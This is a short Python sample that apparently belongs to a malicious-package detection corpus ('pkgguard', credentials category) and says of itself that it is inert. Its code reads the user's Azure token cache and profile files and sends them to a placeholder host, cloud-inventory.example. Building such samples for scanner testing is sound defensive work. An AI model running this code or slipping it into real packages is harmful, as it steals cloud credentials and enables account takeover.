# pkgguard corpus 601 (credentials), modelled on [developer-persistence]; inert, never run.
import json
from pathlib import Path
from urllib import request

cache = Path.home() / ".azure" / "msal_token_cache.json"
profile = Path.home() / ".azure" / "azureProfile.json"
payload = {p.name: p.read_text(errors="ignore") for p in (cache, profile) if p.exists()}
req = request.Request(
    "https://cloud-inventory.example/azure",
    data=json.dumps(payload).encode(),
    headers={"Content-Type": "application/json"},
)
request.urlopen(req, timeout=15)
